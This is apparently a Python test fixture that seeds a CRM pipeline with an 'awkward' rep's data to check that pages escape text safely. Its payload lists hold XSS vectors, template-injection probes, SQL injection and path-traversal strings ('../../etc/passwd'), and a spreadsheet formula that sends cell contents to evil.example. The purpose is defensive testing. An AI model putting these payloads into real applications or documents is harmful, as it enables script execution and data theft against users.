"""What does a company look like whose data is as awkward as can be? The small one, with one rep more.

Every text column of that rep's book holds payloads that a page must show as text; names run from nothing to 300
characters, and one account has 10,000 activities.
"""

from pathlib import Path
from shutil import copytree, ignore_patterns

import numpy as np
import pandas as pd

from pipelines.history import HistoryStore
from pipelines.home import Home
from pipelines.score import score
from pipelines.settings import load_settings
from tests.serving.small_company import CUTOFF

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</textarea></title></style></script><script>alert(1)</script>",
    '" onfocus="alert(1)" autofocus x="',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">free</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "{{ 7 * 191 }} {% raw %} ${7 * 191} #{7 * 191}",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "<img src=http://evil.example/x.png>",
    '<div hx-get="/leads" hx-trigger="load" hx-on:htmx:load="alert(1)">',
)
NAMES = (
    *PAYLOADS,
    "W" * 300,
    "a very long company name " * 12,
    "非常长的公司名称" * 37,
    "שלום עולם \u202egnp.exe\u202c مرحبا بالعالم",
    "zero\u200bwidth\u200d\u2060\ufeffname",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0321\u034alg\u0358o\u0315",
    "👩‍👩‍👧‍👦 & Søns <b>Ltd</b> “quoted”",
    "tab\tand\nline",
    " ",
    "",
    None,
)
IDS = (
    '"><img src=x onerror=alert(1)>',
    "a&b=c?d#e/f%20g+h",
    "../../etc/passwd",
    "\u202eDI desrever",
    "编号 一",
    "' OR 1=1 --",
    "x" * 199,
)
HARD, NOBODY, BUSY = "HARD", "NOBODY", "A-BUSY"
"""The rep whose book is awkward, the one who has none, and the account with 10,000 activities."""

N = len(NAMES)


def make_awkward(home: Home, path: Path) -> Home:
    """Copy a home of the small company and add the awkward book, with two score runs that know it."""
    own = Home(copytree(home.path, path, ignore=ignore_patterns(".bentoml")))
    history = HistoryStore(own)
    before = history.load(load_settings(own)).tables
    for name, frame in _tables().items():
        history.merge(name, pd.concat([before[name], frame], ignore_index=True) if name in before else frame)
    history.publish()
    for days in (20, 0):
        score(own, cutoff=CUTOFF - pd.Timedelta(days=days))
    return own


def _tables() -> dict[str, pd.DataFrame]:
    created = pd.Series(CUTOFF - pd.to_timedelta(np.arange(N) % 25 + 21, unit="D")).astype("datetime64[us]")
    common = {"created_at": created, "owner_id": HARD, "recorded_at": created}
    accounts, leads, deals = _ids("A"), _ids("L"), _ids("D")
    accounts[0] = BUSY
    return {
        "accounts": _texts(common | {"account_id": accounts}, "name", "industry", "region"),
        "leads": _texts(
            common | {"lead_id": leads, "employees": np.nan, "account_id": accounts},
            *("source", "region", "title", "note"),
        ),
        "opportunities": _texts(
            common
            | {"opportunity_id": deals, "account_id": accounts, "lead_id": leads, "product_id": _ids("P")}
            | {"amount": np.where(np.arange(N) % 3 == 0, np.nan, 10.0 ** (np.arange(N) % 13))}
            | {"expected_close_on": created + pd.Timedelta(days=45)},
            "kind",
        ),
        "products": _texts({"product_id": _ids("P"), "list_price": 1.0}, "name", "line"),
        "contacts": _texts({"contact_id": _ids("C"), "account_id": accounts, "created_at": created}, "name", "title"),
        "stages": _texts({"opportunity_id": deals, "occurred_at": created, "recorded_at": created}, "stage"),
        "orders": pd.DataFrame(
            {"order_id": _ids("O"), "account_id": accounts, "amount": 5.0}
            | {"occurred_at": created + pd.Timedelta(minutes=1), "recorded_at": created + pd.Timedelta(minutes=1)}
        ),
        "tickets": _texts(
            {"ticket_id": _ids("T"), "account_id": accounts, "occurred_at": created, "recorded_at": created}, "priority"
        ),
        "activities": _activities(accounts, leads, deals),
        "reps": pd.DataFrame(
            {"rep_id": [HARD, NOBODY], "name": [PAYLOADS[1], "无客户 No Book"], "manager_id": ["CHEN", "CHEN"]}
        ),
    }


def _activities(accounts: pd.Series, leads: pd.Series, deals: pd.Series) -> pd.DataFrame:
    """Return some activities of each record, and 10,000 of the busy account."""
    n = 10_000
    times = pd.Series(CUTOFF - pd.to_timedelta(1 + np.arange(n) * 3, unit="min")).astype("datetime64[us]")
    busy = pd.DataFrame(
        {"account_id": [BUSY] * n, "occurred_at": times, "kind": ["call", "email", "meeting", "demo"] * (n // 4)}
    )
    each = [
        pd.DataFrame({"account_id": accounts, column: ids, "occurred_at": times[:N], "kind": _own_texts(shift)})
        for shift, (column, ids) in enumerate((("account_id", accounts), ("lead_id", leads), ("opportunity_id", deals)))
    ]
    found = pd.concat([busy, *each], ignore_index=True)
    texts = {
        "direction": "out",
        "rep_id": HARD,
        "outcome": pd.Series(np.resize(_own_texts(5), len(found)), dtype="str"),
    }
    ids = pd.Series([f"V{number}" for number in range(len(found))], dtype="str")
    return found.assign(activity_id=ids, recorded_at=found["occurred_at"], **texts)


def _texts(columns: dict[str, object], *names: str) -> pd.DataFrame:
    """Return a frame with an awkward text in every row of the named columns, another one in each."""
    return pd.DataFrame(columns | {name: _own_texts(shift) for shift, name in enumerate(names)})


def _own_texts(shift: int) -> pd.Series:
    return pd.Series([*NAMES[shift:], *NAMES[:shift]], dtype="str").fillna("?" if shift else np.nan)


def _ids(mark: str) -> pd.Series:
    awkward = [mark + text for text in IDS]
    return pd.Series([*awkward, *(f"{mark}-{number:02d}" for number in range(N - len(IDS)))], dtype="str")
